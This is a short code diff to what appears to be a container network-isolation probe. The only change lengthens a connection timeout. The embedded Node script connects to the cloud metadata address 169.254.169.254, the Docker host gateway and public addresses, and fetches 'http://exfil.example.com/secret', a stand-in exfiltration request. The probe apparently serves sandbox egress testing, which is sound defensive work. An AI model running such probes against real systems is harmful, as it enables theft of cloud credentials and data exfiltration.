@@ -2,7 +2,7 @@
 export const dockerProbe = `
 import net from 'node:net'; import http from 'node:http'; import { execFileSync } from 'node:child_process';
 const sh = (c) => { try { return execFileSync('sh', ['-c', c], { stdio: ['ignore', 'pipe', 'pipe'] }).toString().trim(); } catch (e) { return 'failed: ' + (e.stderr?.toString().trim().split('\\n').pop() ?? ''); } };
-const tcp = (host, port) => new Promise((resolve) => { let text = ''; const s = net.connect({ host, port, timeout: 5000 }); s.on('connect', () => s.write('GET / HTTP/1.1\\r\\nhost: ' + (host.includes(':') ? '[' + host + ']' : host) + '\\r\\nconnection: close\\r\\n\\r\\n')); s.on('data', (d) => { text += d; }); s.on('close', () => resolve(text.split('\\r\\n')[0])); s.on('timeout', () => { s.destroy(); resolve('hang'); }); s.on('error', (e) => resolve(e.code)); });
+const tcp = (host, port) => new Promise((resolve) => { let text = ''; const s = net.connect({ host, port, timeout: 120000 }); s.on('connect', () => s.write('GET / HTTP/1.1\\r\\nhost: ' + (host.includes(':') ? '[' + host + ']' : host) + '\\r\\nconnection: close\\r\\n\\r\\n')); s.on('data', (d) => { text += d; }); s.on('close', () => resolve(text.split('\\r\\n')[0])); s.on('timeout', () => { s.destroy(); resolve('hang'); }); s.on('error', (e) => resolve(e.code)); });
 const out = {};
 for (const host of ['169.254.169.254', '172.17.0.1', '1.1.1.1', 'fd00:ec2::254']) out['http ' + host] = await tcp(host, 80);
 out.name = await new Promise((resolve) => http.get('http://exfil.example.com/secret', (r) => { let b = ''; r.on('data', (d) => b += d); r.on('end', () => resolve(r.statusCode + ' ' + b)); }).on('error', (e) => resolve(e.code)));
